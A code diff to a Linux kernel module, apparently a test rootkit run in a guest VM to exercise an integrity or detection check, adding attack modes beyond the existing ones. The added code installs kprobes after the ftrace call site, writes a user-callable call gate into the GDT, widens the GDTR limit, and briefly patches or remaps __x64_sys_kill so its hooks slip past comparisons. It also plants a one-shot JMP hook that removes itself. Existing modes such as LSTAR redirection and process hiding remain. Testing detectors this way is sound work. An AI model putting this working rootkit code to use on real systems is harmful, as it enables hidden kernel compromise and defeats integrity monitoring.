@@ -9,7 +9,17 @@
  *           physical page (b)
  *   ftrace  hook cgroup_freeze_write and __x64_sys_kill with ftrace (IPMODIFY): they return
  *           success and do nothing (c)
- *   kprobe  the same with kprobes whose handler returns for the function (c)
+ *   kprobe  the same with kprobes whose handler returns for the function (c): int3
+ *           kprobes on the instruction after the ftrace call site (a kprobe on the site
+ *           itself would be ftrace again), kept from optimization (a jump) by a
+ *           post_handler
+ *   kprobe-off  unregister them (the control boot's next attack needs the paths clear)
+ *   gdt     write the lower half of a DPL 3 call gate to the module's stub into the GDT
+ *           slot Linux leaves empty (7) through a writable alias of the GDT's page (a
+ *           working gate needs slot 8 too, the TSS descriptor: the write is what the
+ *           check must see); gdt-read prints the slot as the CPU's GDT has it
+ *   gdtr    load GDTR on CPU 0 with the same base and a 64 KiB limit; gdtr-read prints
+ *           CPU 0's GDTR; gdtr-restore loads the original
  *   inline  patch the first bytes of cgroup_freeze_write (after its ENDBR) through a
  *           writable alias of its text page: "mov rax, rdx; ret" returns nbytes (d)
  *   lstar   point IA32_LSTAR at a stub of its own (e); if the write is taken, LSTAR is put
@@ -17,6 +27,18 @@
  *           from, so the guest could not survive a system call through it)
  *   loop S  put the inline patch back every millisecond for S seconds from a kernel thread
  *           (g: a hook re-applied while an operation runs)
+ *   flash S for S seconds, a kernel thread patches __x64_sys_kill (after its ENDBR: "xor
+ *           eax, eax; ret") for 4-5 ms, then puts the original back for 0.3-0.5 ms, and
+ *           again: a kill meanwhile most likely returns 0 and does nothing, while the text
+ *           is often as it was when someone compares it (a hook put in and taken out)
+ *   remap S the same with the mapping instead of the text: for S seconds, a kernel thread
+ *           points the page-table entry that maps __x64_sys_kill (a 2 MiB or 4 KiB leaf) at
+ *           a copy with that patch for 4-5 ms, then back for 0.3-0.5 ms, and again
+ *   oneshot S  for S seconds, a kernel thread keeps a one-shot hook on __x64_sys_kill: a
+ *           JMP to the module's stub in place of the ftrace call site; the first kill
+ *           through it puts the original bytes back and returns 0 without doing anything,
+ *           so right after that call the text is as it was. The thread arms it again
+ *           within 1-2 ms
  *   hide N  take process N off the tasks list (f): list_del_init under tasklist_lock, so its
  *           exit later unlinks nothing and the kernel stays sound; /proc (the pid IDR)
  *           still lists it, for_each_process and a tasks-list walk do not
@@ -49,6 +71,8 @@
 #include <linux/string.h>
 #include <linux/vmalloc.h>
 #include <asm/asm.h>
+#include <asm/desc.h>
+#include <asm/pgtable_types.h>
 #include <asm/msr.h>
 #include <asm/processor-flags.h>
 #include <asm/unistd.h>
@@ -140,8 +164,8 @@ static void *alias_of(void *p, void **mapping)
 {
 	struct page *pg = is_vmalloc_addr(p) ? vmalloc_to_page(p) : virt_to_page(p);
 
-	if (!is_vmalloc_addr(p) && !virt_addr_valid(p))
-		pg = pfn_to_page(__pa_symbol(p) >> PAGE_SHIFT);
+	if (!is_vmalloc_addr(p) && !virt_addr_valid(p)) /* the image, the fixmap */
+		pg = pfn_to_page(slow_virt_to_phys(p) >> PAGE_SHIFT);
 	*mapping = vmap(&pg, 1, VM_MAP, PAGE_KERNEL);
 	return *mapping ? (char *)*mapping + offset_in_page(p) : NULL;
 }
@@ -238,42 +262,87 @@ static int kp_kill(struct kprobe *p, struct pt_regs *regs)
 	return return_now(regs, 0);
 }
 
-static struct kprobe kprobe_freeze = {.symbol_name = "cgroup_freeze_write",
-				      .pre_handler = kp_freeze};
-static struct kprobe kprobe_kill = {.symbol_name = "__x64_sys_kill", .pre_handler = kp_kill};
+/* never called (the pre-handlers skip the instruction): its presence keeps the probe an
+ * int3 (optimize_kprobe leaves probes with a post_handler alone) */
+static void kp_post(struct kprobe *p, struct pt_regs *regs, unsigned long flags)
+{
+}
+
+static struct kprobe kprobe_freeze = {.pre_handler = kp_freeze, .post_handler = kp_post};
+static struct kprobe kprobe_kill = {.pre_handler = kp_kill, .post_handler = kp_post};
+static bool kprobes_on;
+
+/* The instruction after fn's ftrace call site (5 bytes): the stack is still as at entry,
+ * so return_now holds there. */
+static unsigned long after_fentry(const char *fn)
+{
+	unsigned long (*location)(unsigned long) = (void *)lookup("ftrace_location");
+	unsigned long at = lookup(fn), site = at && location ? location(at) : 0;
+
+	return site ? site + 5 : 0;
+}
 
 static void attack_kprobe(void)
 {
-	int a = register_kprobe(&kprobe_freeze), b = register_kprobe(&kprobe_kill);
+	int a = -ENOENT, b = -ENOENT;
 
-	pr_notice("GUEST-ROOTKIT kprobe freeze=%d kill=%d at=0x%lx,0x%lx\n", a, b,
-		  (unsigned long)kprobe_freeze.addr, (unsigned long)kprobe_kill.addr);
+	kprobe_freeze.addr = (kprobe_opcode_t *)after_fentry("cgroup_freeze_write");
+	kprobe_kill.addr = (kprobe_opcode_t *)after_fentry("__x64_sys_kill");
+	if (!kprobes_on && kprobe_freeze.addr && kprobe_kill.addr) {
+		a = register_kprobe(&kprobe_freeze);
+		b = register_kprobe(&kprobe_kill);
+		kprobes_on = a == 0 && b == 0;
+	}
+	pr_notice("GUEST-ROOTKIT kprobe freeze=%d kill=%d at=0x%lx,0x%lx int3=%d,%d\n", a, b,
+		  (unsigned long)kprobe_freeze.addr, (unsigned long)kprobe_kill.addr,
+		  kprobe_freeze.addr && *(u8 *)kprobe_freeze.addr == 0xcc,
+		  kprobe_kill.addr && *(u8 *)kprobe_kill.addr == 0xcc);
+}
+
+static void attack_kprobe_off(void)
+{
+	bool was = kprobes_on;
+
+	if (was) {
+		unregister_kprobe(&kprobe_freeze);
+		unregister_kprobe(&kprobe_kill);
+		kprobes_on = false;
+	}
+	pr_notice("GUEST-ROOTKIT kprobe-off unregistered=%d\n", was);
 }
 
 static const u8 ret_nbytes[4] = {0x48, 0x89, 0xd0, 0xc3}; /* mov rax, rdx; ret */
+
+static u8 *after_endbr(const char *fn)
+{
+	static const u8 endbr64[4] = {0xf3, 0x0f, 0x1e, 0xfa};
+	u8 *at = (u8 *)lookup(fn);
+
+	return at + (memcmp(at, endbr64, 4) == 0 ? 4 : 0);
+}
+
+static int write_text(u8 *at, const u8 *bytes, size_t n)
+{
+	void *mapping;
+	u8 *alias = alias_of(at, &mapping);
+	int rc = alias ? copy_safe(alias, bytes, n) : -ENOMEM;
+
+	if (mapping)
+		vunmap(mapping);
+	return rc;
+}
 
 /* The patch of cgroup_freeze_write (after its ENDBR) through an alias of its page: 0 or an
  * error; *at: where. */
 static u8 *freeze_at(void)
 {
-	static const u8 endbr64[4] = {0xf3, 0x0f, 0x1e, 0xfa};
-	u8 *fn = (u8 *)lookup("cgroup_freeze_write");
-
-	return fn + (memcmp(fn, endbr64, 4) == 0 ? 4 : 0);
+	return after_endbr("cgroup_freeze_write");
 }
 
 static int patch_freeze(u8 **at)
 {
-	void *mapping;
-	u8 *alias;
-	int rc;
-
 	*at = freeze_at();
-	alias = alias_of(*at, &mapping);
-	rc = alias ? copy_safe(alias, ret_nbytes, sizeof(ret_nbytes)) : -ENOMEM;
-	if (mapping)
-		vunmap(mapping);
-	return rc;
+	return write_text(*at, ret_nbytes, sizeof(ret_nbytes));
 }
 
 static void attack_inline(void)
@@ -285,17 +354,19 @@ static void attack_inline(void)
 		  memcmp(at, ret_nbytes, sizeof(ret_nbytes)) == 0);
 }
 
+/* The end of loop, flash and remap (one runs at a time), in jiffies */
+static unsigned long flash_until;
+
 /* (g): the inline patch put back every millisecond for SECS seconds, by a kernel thread,
  * whenever it is not there: an operation meanwhile must not be reported done on a hooked
  * kernel. "GUEST-ROOTKIT loop-done rewrites=N" in the kernel log at its end. */
-static unsigned long loop_until;
 
 static int loop_fn(void *data)
 {
 	unsigned long rewrites = 0, looks = 0;
 	u8 *at;
 
-	while (!kthread_should_stop() && time_before(jiffies, loop_until)) {
+	while (!kthread_should_stop() && time_before(jiffies, flash_until)) {
 		looks++;
 		if (memcmp(freeze_at(), ret_nbytes, sizeof(ret_nbytes)) != 0 &&
 		    patch_freeze(&at) == 0)
@@ -306,7 +377,97 @@ static int loop_fn(void *data)
 	return 0;
 }
 
-static void attack_loop(const char *arg)
+/* flash: "GUEST-ROOTKIT flash-done flashes=N" in the kernel log at its end */
+
+static int flash_fn(void *data)
+{
+	static const u8 ret0[4] = {0x31, 0xc0, 0xc3, 0x90}; /* xor eax, eax; ret; nop */
+	u8 *at = after_endbr("__x64_sys_kill"), saved[4];
+	unsigned long flashes = 0;
+
+	memcpy(saved, at, sizeof(saved));
+	while (!kthread_should_stop() && time_before(jiffies, flash_until)) {
+		if (write_text(at, ret0, sizeof(ret0)) == 0)
+			flashes++;
+		usleep_range(4000, 5000);
+		write_text(at, saved, sizeof(saved));
+		usleep_range(300, 500);
+	}
+	pr_notice("GUEST-ROOTKIT flash-done flashes=%lu\n", flashes);
+	return 0;
+}
+
+/* remap: "GUEST-ROOTKIT remap-done flips=N level=L" in the kernel log at its end */
+static int remap_fn(void *data)
+{
+	static const u8 ret0[4] = {0x31, 0xc0, 0xc3, 0x90}; /* xor eax, eax; ret; nop */
+	unsigned long va = (unsigned long)after_endbr("__x64_sys_kill"), size, base;
+	void (*flush_all)(void) = (void *)lookup("flush_tlb_all");
+	unsigned long flips = 0;
+	unsigned int level = 0;
+	pte_t *entry = lookup_address(va, &level);
+	struct page *copy = NULL;
+	pteval_t orig, moved;
+
+	if (entry && flush_all && (level == PG_LEVEL_2M || level == PG_LEVEL_4K)) {
+		size = level == PG_LEVEL_2M ? PMD_SIZE : PAGE_SIZE;
+		copy = alloc_pages(GFP_KERNEL, get_order(size));
+	}
+	if (copy) {
+		base = va & ~(size - 1);
+		memcpy(page_address(copy), (void *)base, size);
+		memcpy((u8 *)page_address(copy) + (va - base), ret0, sizeof(ret0));
+		orig = pte_val(*entry);
+		moved = (orig & ~(PTE_PFN_MASK & ~(size - 1))) |
+			((pteval_t)page_to_pfn(copy) << PAGE_SHIFT);
+		while (!kthread_should_stop() && time_before(jiffies, flash_until)) {
+			if (store8_safe(entry, moved) == 0)
+				flips++;
+			flush_all();
+			usleep_range(4000, 5000);
+			store8_safe(entry, orig);
+			flush_all();
+			usleep_range(300, 500);
+		}
+		__free_pages(copy, get_order(size));
+	}
+	pr_notice("GUEST-ROOTKIT remap-done flips=%lu level=%u\n", flips, level);
+	return 0;
+}
+
+/* oneshot: the hook, and the bytes it replaced */
+static u8 *oneshot_at, oneshot_saved[5];
+
+static long oneshot_kill(const struct pt_regs *regs)
+{
+	if (oneshot_at)
+		write_text(oneshot_at, oneshot_saved, sizeof(oneshot_saved));
+	return 0;
+}
+
+static int oneshot_fn(void *data)
+{
+	unsigned long arms = 0;
+	u8 jmp[5] = {0xe9};
+
+	oneshot_at = after_endbr("__x64_sys_kill");
+	memcpy(oneshot_saved, oneshot_at, sizeof(oneshot_saved));
+	*(s32 *)(jmp + 1) = (s32)((long)oneshot_kill - (long)(oneshot_at + 5));
+	while (!kthread_should_stop() && time_before(jiffies, flash_until)) {
+		/* armed: the JMP is there (a check may have put the original back) */
+		if (memcmp(oneshot_at, jmp, sizeof(jmp)) != 0 &&
+		    write_text(oneshot_at, jmp, sizeof(jmp)) == 0)
+			arms++;
+		usleep_range(1000, 2000);
+	}
+	if (memcmp(oneshot_at, jmp, sizeof(jmp)) == 0)
+		write_text(oneshot_at, oneshot_saved, sizeof(oneshot_saved));
+	pr_notice("GUEST-ROOTKIT oneshot-done arms=%lu\n", arms);
+	return 0;
+}
+
+/* loop, flash, remap or oneshot SECS: the thread that does it */
+static void start_flashing(const char *name, int (*fn)(void *), const char *arg)
 {
 	struct task_struct *t = NULL;
 	int secs, rc = kstrtoint(arg, 10, &secs);
@@ -314,12 +475,11 @@ static void attack_loop(const char *arg)
 	if (rc == 0 && (secs <= 0 || secs > 600))
 		rc = -EINVAL;
 	if (rc == 0) {
-		loop_until = jiffies + (unsigned long)secs * HZ;
-		t = kthread_run(loop_fn, NULL, "rk-loop");
+		flash_until = jiffies + (unsigned long)secs * HZ;
+		t = kthread_run(fn, NULL, "rk-%s", name);
 		rc = IS_ERR(t) ? (int)PTR_ERR(t) : 0;
 	}
-	pr_notice("GUEST-ROOTKIT loop started=%d secs=%s pid=%d\n", rc == 0, arg,
-		  rc == 0 ? t->pid : 0);
+	pr_notice("GUEST-ROOTKIT %s started=%d secs=%s\n", name, rc == 0, arg);
 }
 
 static void attack_lstar(void)
@@ -333,6 +493,112 @@ static void attack_lstar(void)
 	if (after != before)
 		wrmsrl(MSR_LSTAR, before);
 	pr_notice("GUEST-ROOTKIT lstar write=%d moved=%d\n", rc, after != before);
+}
+
+/* The GDT slot Linux leaves empty (arch/x86/include/asm/segment.h: 7, between the
+ * user CS and the TSS) */
+#define GDT_SLOT_EMPTY 7
+
+static u64 gdt_slot(void)
+{
+	struct desc_ptr d;
+
+	native_store_gdt(&d);
+	return ((u64 *)d.address)[GDT_SLOT_EMPTY];
+}
+
+static void attack_gdt(void)
+{
+	unsigned long stub = (unsigned long)stub_kill;
+	/* SDM Vol. 3A 6.8.3 (call gates): offset 15:0, selector, type 1100b, DPL 3, present,
+	 * offset 31:16 */
+	u64 gate = (stub & 0xffff) | (u64)__KERNEL_CS << 16 | 0xecull << 40 |
+		   (u64)((stub >> 16) & 0xffff) << 48;
+	struct desc_ptr d;
+	void *mapping;
+	u64 *alias;
+	int rc;
+
+	native_store_gdt(&d);
+	alias = alias_of((u64 *)d.address + GDT_SLOT_EMPTY, &mapping);
+	rc = alias ? store8_safe(alias, gate) : -ENOMEM;
+	if (mapping)
+		vunmap(mapping);
+	pr_notice("GUEST-ROOTKIT gdt write=%d slot=%d now=0x%016llx planted=%d\n", rc,
+		  GDT_SLOT_EMPTY, gdt_slot(), gdt_slot() == gate);
+}
+
+static void attack_gdt_read(void)
+{
+	pr_notice("GUEST-ROOTKIT gdt-read slot=%d now=0x%016llx empty=%d\n", GDT_SLOT_EMPTY,
+		  gdt_slot(), gdt_slot() == 0);
+}
+
+/* GDTR keeps its base: the GDT must stay where the user page tables map it too (the CPU
+ * entry area), or the first VERW or IRET under PTI's user CR3 faults for good. Its limit
+ * grows to 64 KiB instead: selectors past Linux's 16 slots then reach whatever follows the
+ * GDT's page. */
+static struct desc_ptr gdtr_saved;
+static bool gdtr_moved;
+
+static void gdtr_move(void *unused)
+{
+	struct desc_ptr d;
+
+	native_store_gdt(&gdtr_saved);
+	d.address = gdtr_saved.address;
+	d.size = 0xffff;
+	native_load_gdt(&d);
+}
+
+static void gdtr_back(void *unused)
+{
+	native_load_gdt(&gdtr_saved);
+}
+
+static void gdtr_read(void *d)
+{
+	native_store_gdt(d);
+}
+
+static struct desc_ptr gdtr_now_cpu0(void)
+{
+	struct desc_ptr d = {0};
+
+	smp_call_function_single(0, gdtr_read, &d, 1);
+	return d;
+}
+
+static void attack_gdtr(void)
+{
+	int rc = -EBUSY;
+	struct desc_ptr now;
+
+	if (!gdtr_moved) {
+		rc = smp_call_function_single(0, gdtr_move, NULL, 1);
+		gdtr_moved = rc == 0;
+	}
+	now = gdtr_now_cpu0();
+	pr_notice("GUEST-ROOTKIT gdtr load=%d base=0x%lx limit_was=%u limit=%u moved=%d\n", rc,
+		  now.address, gdtr_saved.size, now.size, now.size != gdtr_saved.size);
+}
+
+static void attack_gdtr_read(void)
+{
+	struct desc_ptr now = gdtr_now_cpu0();
+
+	pr_notice("GUEST-ROOTKIT gdtr-read base=0x%lx limit=%u back=%d\n", now.address, now.size,
+		  now.size == gdtr_saved.size && now.address == gdtr_saved.address);
+}
+
+static void attack_gdtr_restore(void)
+{
+	int rc = gdtr_moved ? smp_call_function_single(0, gdtr_back, NULL, 1) : -ENOENT;
+	struct desc_ptr now = gdtr_now_cpu0();
+
+	gdtr_moved = gdtr_moved && rc != 0;
+	pr_notice("GUEST-ROOTKIT gdtr-restore load=%d limit=%u back=%d\n", rc, now.size,
+		  rc == 0 && now.size == gdtr_saved.size && now.address == gdtr_saved.address);
 }
 
 static void attack_hide(const char *arg)
@@ -363,8 +629,29 @@ static const struct {
 	const char *name;
 	void (*run)(void);
 } attacks[] = {
-	{"wp", attack_wp},         {"alias", attack_alias},   {"ftrace", attack_ftrace},
-	{"kprobe", attack_kprobe}, {"inline", attack_inline}, {"lstar", attack_lstar},
+	{"wp", attack_wp},
+	{"alias", attack_alias},
+	{"ftrace", attack_ftrace},
+	{"kprobe", attack_kprobe},
+	{"inline", attack_inline},
+	{"lstar", attack_lstar},
+	{"kprobe-off", attack_kprobe_off},
+	{"gdt", attack_gdt},
+	{"gdt-read", attack_gdt_read},
+	{"gdtr", attack_gdtr},
+	{"gdtr-read", attack_gdtr_read},
+	{"gdtr-restore", attack_gdtr_restore},
+};
+
+/* The attacks that run for SECS seconds in a kernel thread */
+static const struct {
+	const char *name;
+	int (*fn)(void *);
+} threads[] = {
+	{"loop", loop_fn},
+	{"flash", flash_fn},
+	{"remap", remap_fn},
+	{"oneshot", oneshot_fn},
 };
 
 static int run_set(const char *val, const struct kernel_param *kp)
@@ -372,11 +659,15 @@ static int run_set(const char *val, const struct kernel_param *kp)
 	size_t n = strcspn(val, "\n");
 	char arg[16];
 
-	if (n > 5 && n - 5 < sizeof(arg) && !strncmp(val, "loop ", 5)) {
-		memcpy(arg, val + 5, n - 5);
-		arg[n - 5] = '\0';
-		attack_loop(arg);
-		return 0;
+	for (size_t i = 0; i < ARRAY_SIZE(threads); i++) {
+		size_t k = strlen(threads[i].name);
+		if (n > k + 1 && n - k - 1 < sizeof(arg) && !strncmp(val, threads[i].name, k) &&
+		    val[k] == ' ') {
+			memcpy(arg, val + k + 1, n - k - 1);
+			arg[n - k - 1] = '\0';
+			start_flashing(threads[i].name, threads[i].fn, arg);
+			return 0;
+		}
 	}
 	if (n > 5 && n - 5 < sizeof(arg) && !strncmp(val, "hide ", 5)) {
 		memcpy(arg, val + 5, n - 5);
@@ -396,8 +687,10 @@ static int run_set(const char *val, const struct kernel_param *kp)
 
 static const struct kernel_param_ops run_ops = {.set = run_set};
 module_param_cb(run, &run_ops, NULL, 0200);
-MODULE_PARM_DESC(
-	run, "the attack to run: wp, alias, ftrace, kprobe, inline, lstar, loop SECS, hide PID");
+MODULE_PARM_DESC(run,
+		 "the attack to run: wp, alias, ftrace, kprobe, kprobe-off, inline, lstar, gdt, "
+		 "gdt-read, gdtr, gdtr-read, gdtr-restore, loop SECS, flash SECS, remap SECS, "
+		 "oneshot SECS, hide PID");
 
 static int __init rootkit_init(void)
 {
